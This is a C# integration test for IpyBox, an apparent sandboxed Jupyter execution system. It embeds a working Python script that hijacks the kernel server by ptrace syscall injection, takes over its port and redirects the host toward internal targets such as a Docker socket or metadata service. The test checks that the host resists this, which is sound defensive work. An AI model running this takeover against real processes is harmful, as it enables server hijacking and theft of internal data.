using System.Net;

namespace IpyBox.AI.IntegrationTests.Hardening;

/// <summary>
/// The kernel server inside a sandbox is the sandbox's own. The kernel can no longer take it over (ServerSecretTests), but
/// the host must not depend on that: here a process in the sandbox's process and network namespaces that got past those
/// defences (root with <c>CAP_SYS_PTRACE</c>, standing for a kernel exploit) takes the server over (ptrace, then the server's port) and answers every
/// request with a redirect to an address on the host; the host must send nothing there, whatever it was doing.
/// </summary>
public sealed class ServerTakeoverTests : IAsyncLifetime
{
    // It stops the server's main thread with ptrace,
    // makes it close() each of its sockets on port 8888 (one syscall instruction of libc, single-stepped), lets it go, and
    // serves the port itself.
    private const string Takeover = """
        import ctypes, os, socket, sys

        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        server = next(int(p) for p in os.listdir('/proc')
                      if p.isdigit() and b'jupyter_server' in open(f'/proc/{p}/cmdline', 'rb').read())
        inodes = {f'socket:[{line.split()[9]}]'
                  for table in ('/proc/net/tcp', '/proc/net/tcp6')
                  for line in open(table).read().splitlines()[1:] if line.split()[1].endswith(':22B8')}
        fds = [int(fd) for fd in os.listdir(f'/proc/{server}/fd') if os.readlink(f'/proc/{server}/fd/{fd}') in inodes]
        assert libc.ptrace(16, server, None, None) == 0, ctypes.get_errno()        # PTRACE_ATTACH
        os.waitpid(server, 0x40000000)
        regs = (ctypes.c_ulong * 27)()
        libc.ptrace(12, server, None, ctypes.byref(regs))                            # PTRACE_GETREGS
        saved = list(regs)
        text = next(l for l in open(f'/proc/{server}/maps') if ' r-xp ' in l and l.rstrip().endswith('/libc.so.6'))
        start, end = (int(x, 16) for x in text.split()[0].split('-'))
        with open(f'/proc/{server}/mem', 'rb') as mem:
            mem.seek(start)
            syscall = start + mem.read(end - start).index(b'\x0f\x05')
        for fd in fds:
            regs[:] = saved
            regs[10], regs[14], regs[15], regs[16] = 3, fd, 2**64 - 1, syscall       # rax = close, rdi, orig_rax = -1, rip
            libc.ptrace(13, server, None, ctypes.byref(regs))                        # PTRACE_SETREGS
            libc.ptrace(9, server, None, None)                                       # PTRACE_SINGLESTEP
            os.waitpid(server, 0x40000000)
        regs[:] = saved
        libc.ptrace(13, server, None, ctypes.byref(regs))
        libc.ptrace(17, server, None, None)                                          # PTRACE_DETACH
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(('0.0.0.0', 8888))
        listener.listen()
        while True:
            connection, _ = listener.accept()
            connection.recv(65536)
            connection.sendall(f'HTTP/1.1 307 Temporary Redirect\r\nLocation: {sys.argv[1]}\r\nContent-Length: 0\r\n'
                               'Connection: close\r\n\r\n'.encode())
            connection.close()
        """;

    private static readonly ExecutionClientOptions s_options = new() { ConnectTimeout = TimeSpan.FromSeconds(10), ReconnectTimeout = TimeSpan.FromSeconds(3) };

    private readonly TempDirectory _host = new("ipybox-takeover-");

    // Stands for what the host can reach and the sandbox cannot: the Docker engine's socket, a cloud metadata service.
    private readonly ScriptedHttpServer _target = new(_ => (200, """[{"Id": "another-sandbox"}]""", null));
    private ExecutionContainer? _container;

    private ExecutionContainer Container => _container!;

    public async Task InitializeAsync()
    {
        await DockerEngine.EnsureAvailableAsync();
        _container = await ExecutionContainer.StartAsync();
    }

    public async Task DisposeAsync()
    {
        if (_container is not null)
        {
            await _container.DisposeAsync();
        }

        _target.Dispose();
        _host.Dispose();
    }

    [Fact]
    public async Task A_taken_over_server_that_redirects_makes_the_host_contact_nothing_else()
    {
        var client = await Container.ConnectClientAsync(s_options);
        await client.ExecuteAsync("open('/app/data.txt', 'w').write('the real file')");
        await DockerEngine.StartInsideAsync(
            Container.ContainerId!, Container.Image, "/opt/venv/bin/python", "-c", Takeover, new Uri(_target.Uri, "containers/json").AbsoluteUri);
        await WaitUntilTakenOverAsync();

        // A single-file download falls back to the engine's archive path and gets the real bytes.
        await new ResourceClient(Container).DownloadFileAsync("data.txt", _host.Combine("data.txt"));
        Assert.Equal("the real file", await File.ReadAllTextAsync(_host.Combine("data.txt")));

        // A new kernel cannot be created; the error says why.
        var create = await Assert.ThrowsAnyAsync<Exception>(() => Container.ConnectClientAsync(s_options));
        Assert.Contains("redirect", create.ToString(), StringComparison.Ordinal);

        // The running kernel's connection was cut: its reconnection is refused, not redirected.
        var lost = await Assert.ThrowsAsync<KernelUnavailableException>(() => client.ExecuteAsync("print(1)", TimeSpan.FromSeconds(60)));
        Assert.Contains("307", lost.Message, StringComparison.Ordinal);

        // Disposing deletes the kernel with a DELETE the server answers with a redirect.
        await client.DisposeAsync();

        Assert.Empty(_target.Requests);
    }

    private async Task WaitUntilTakenOverAsync()
    {
        using var http = new HttpClient(new SocketsHttpHandler { AllowAutoRedirect = false }) { Timeout = TimeSpan.FromSeconds(5) };
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            using (var response = await http.GetAsync(new Uri(Container.ServerUri, "api")))
            {
                if (response.StatusCode == HttpStatusCode.TemporaryRedirect)
                {
                    return;
                }
            }

            Assert.True(DateTime.UtcNow < deadline, "The cell did not take the kernel server over within 60 s.");
            await Task.Delay(100);
        }
    }
}
